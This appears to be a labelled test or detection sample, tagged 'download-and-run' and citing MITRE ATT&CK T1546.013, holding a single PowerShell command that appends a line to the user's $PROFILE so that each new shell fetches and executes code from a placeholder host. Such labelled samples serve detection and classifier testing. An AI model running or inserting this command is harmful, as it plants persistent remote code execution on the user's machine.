# expect: download-and-run | source: MITRE ATT&CK T1546.013
Add-Content -Path $PROFILE -Value 'iex (irm http://files.example.invalid/p)'
